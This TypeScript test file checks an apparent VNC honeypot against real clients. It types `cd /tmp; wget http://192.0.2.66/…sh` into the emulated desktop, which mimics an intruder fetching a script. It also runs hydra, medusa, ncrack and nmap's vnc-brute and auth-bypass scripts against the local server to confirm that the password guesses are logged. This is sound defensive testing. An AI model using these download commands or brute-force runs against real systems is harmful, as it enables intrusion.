import assert from 'node:assert/strict'
import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Event } from '#events/event.ts'
import { responseTo } from '#services/vnc/des.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Told = Event & {
  process?: { command_line?: string }
  url?: { original: string }
  skep: { login?: { password?: string; hash?: string } }
}
const ofAction = (action: string) => (event: Event) => event.skep.service === 'vnc' && event.event.action === action
const commandLine = (line: string) => (event: Event) =>
  ofAction('command')(event) && (event as Told).process?.command_line === line
const fetched = (url: string) => (event: Event) =>
  ofAction('file-download')(event) && (event as Told).url?.original === url

const home = fs.mkdtempSync(path.join(os.tmpdir(), 'vnc-clients-'))
const words = path.join(home, 'words')
const passwords = path.join(home, 'passwd')

/** A screen for viewers, and what is to be seen on it. */
async function screen(display: string): Promise<ChildProcess> {
  const xvfb = spawn('Xvfb', [display, '-screen', '0', '1200x900x24', '-nolisten', 'tcp'], { stdio: 'ignore' })
  for (let left = 300; left > 0 && !fs.existsSync(`/tmp/.X11-unix/X${display.slice(1)}`); left--) await sleep(100)
  return xvfb
}
/** The colours of a screen, by how many pixels have them (xwd's format: header, colour map, rows). */
function coloursOn(display: string): Map<number, number> {
  const { stdout: dump } = spawnSync('xwd', ['-root', '-silent', '-display', display], { maxBuffer: 64 << 20 })
  const start = dump.readUInt32BE(0) + 12 * dump.readUInt32BE(76)
  const counts = new Map<number, number>()
  for (let at = start; at + 4 <= dump.length; at += 4) {
    const colour = dump.readUInt32LE(at) & 0xffffff
    counts.set(colour, (counts.get(colour) ?? 0) + 1)
  }
  return counts
}
/** twm's green titles, and xterm's and xclock's white. */
function showsDesktop(display: string): boolean {
  const colours = coloursOn(display)
  return (colours.get(0x22aa99) ?? 0) > 5000 && (colours.get(0xffffff) ?? 0) > 100_000
}

describe('VNC, with real clients', () => {
  let skep: Skep
  before(async () => {
    fs.writeFileSync(words, 'alpha\nbeta\nsecret\n')
    fs.writeFileSync(passwords, spawnSync('vncpasswd', ['-f'], { input: 'secret\n' }).stdout ?? '')
    const rules = `rules: ['*:secret'], otherwise: refuse`
    skep = await startSkep({
      config: `persona: { os: debian-12 }\nservices: { vnc: { failures: 10000, access: { ${rules} } } }\n`,
    })
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const port = () => String(skep.port('vnc'))

  const needed =
    missing('xtigervncviewer') || missing('Xvfb') || missing('xwd') || missing('xdotool') || missing('vncpasswd')
  for (const security of ['VncAuth', 'TLSVnc'])
    test(`TigerVNC's viewer sees the desktop (${security}), and types a line that fetches something`, {
      skip: needed,
      timeout: 120_000,
    }, async () => {
      const display = security === 'VncAuth' ? ':191' : ':192'
      const xvfb = await screen(display)
      const viewer = spawn(
        'xtigervncviewer',
        [
          '-display',
          display,
          '-passwd',
          passwords,
          '-SecurityTypes',
          security,
          '-AlertOnFatalError=0',
          `127.0.0.1::${port()}`,
        ],
        { stdio: 'ignore' },
      )
      try {
        for (let left = 200; !showsDesktop(display); left--) {
          assert.ok(left > 0, 'The desktop never came')
          await sleep(200)
        }
        const x = (...args: string[]) => spawnSync('xdotool', args, { env: { ...process.env, DISPLAY: display } })
        const url = `http://192.0.2.66/${security}.sh`
        // Without a window manager a viewer may miss that the keys are its own: somebody at the screen would try again.
        for (let tries = 0; tries < 5 && skep.events(fetched(url)).length === 0; tries++) {
          for (const id of String(x('search', '--name', 'TigerVNC').stdout)
            .trim()
            .split('\n'))
            x('windowfocus', id)
          // Wherever the terminal opened, this is in it; the viewer tells of the pointer when a button goes down.
          x('mousemove', String(400 + tries), '300')
          x('click', '1')
          await sleep(500)
          x('type', '--delay', '30', `cd /tmp; wget ${url}`)
          x('key', 'Return')
          for (let left = 15; left > 0 && skep.events(fetched(url)).length === 0; left--) await sleep(200)
        }
        await skep.eventually(fetched(url))
        await skep.eventually(commandLine(`cd /tmp; wget ${url}`))
      } finally {
        viewer.kill()
        xvfb.kill()
        await once(xvfb, 'exit')
      }
    })

  test('xtightvncviewer sees it too', {
    skip: missing('xtightvncviewer') || missing('Xvfb') || missing('xwd') || missing('vncpasswd'),
    timeout: 120_000,
  }, async () => {
    const xvfb = await screen(':193')
    const viewer = spawn('xtightvncviewer', ['-passwd', passwords, `127.0.0.1::${port()}`], {
      stdio: 'ignore',
      env: { ...process.env, DISPLAY: ':193' },
    })
    try {
      for (let left = 200; !showsDesktop(':193'); left--) {
        assert.ok(left > 0, 'The desktop never came')
        await sleep(200)
      }
    } finally {
      viewer.kill()
      xvfb.kill()
      await once(xvfb, 'exit')
    }
  })

  const tried = async (word: string) =>
    assert.ok(
      (await skep.eventually(ofAction('login'))).some(event => (event as Told).skep.login?.password === word) ||
        skep.events(ofAction('login')).some(event => matches(event as Told, word)),
      word,
    )
  /** Those that are in no list are known by their hash. */
  const matches = (event: Told, word: string): boolean => {
    const [, challenge, response] = /^\$vnc\$\*(\w+)\*(\w+)$/.exec(event.skep.login?.hash ?? '') ?? []
    return (
      challenge !== undefined &&
      responseTo(Buffer.from(challenge, 'hex'), word).toString('hex').toUpperCase() === response
    )
  }
  const guesses = ['alpha', 'beta', 'secret']
  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const { out } = await runClient('hydra', ['-P', words, '-t', '1', '-I', '-s', port(), '127.0.0.1', 'vnc'])
    assert.match(out, /\[vnc\] host: 127\.0\.0\.1 +password: secret/)
    for (const word of guesses) await tried(word)
  })
  test('so does medusa', { skip: missing('medusa') }, async () => {
    const args = ['-h', '127.0.0.1', '-n', port(), '-u', 'x', '-P', words, '-M', 'vnc']
    assert.match((await runClient('medusa', args)).out, /ACCOUNT FOUND: \[vnc\] .* Password: secret/)
  })
  test('so does ncrack', { skip: missing('ncrack') }, async () => {
    const { out } = await runClient('ncrack', ['--user', 'x', '-P', words, `vnc://127.0.0.1:${port()}`], {
      seconds: 90,
    })
    assert.match(out, /'secret'/)
  })
  test('so does nmap, whose scripts see what they see of the real server', { skip: missing('nmap') }, async () => {
    const scripts = 'vnc-info,realvnc-auth-bypass,vnc-title,vnc-brute'
    const { out } = await runClient(
      'nmap',
      ['-Pn', '-n', '-sV', '-p', port(), '--script', scripts, '--script-args', `passdb=${words}`, '127.0.0.1'],
      { seconds: 150 },
    )
    assert.match(out, /open +vnc +VNC \(protocol 3\.8\)/)
    assert.match(out, /Security types: \n\| +VeNCrypt \(19\)\n\| +VNC Authentication \(2\)/)
    assert.match(out, /VNC auth, Anonymous TLS \(258\)/)
    assert.match(out, /vnc-brute: \n\| +Accounts: \n\| +secret - Valid credentials/)
    assert.doesNotMatch(out, /realvnc-auth-bypass:|honey|skep/i)
    await skep.eventually(ofAction('exploit'))
  })
})
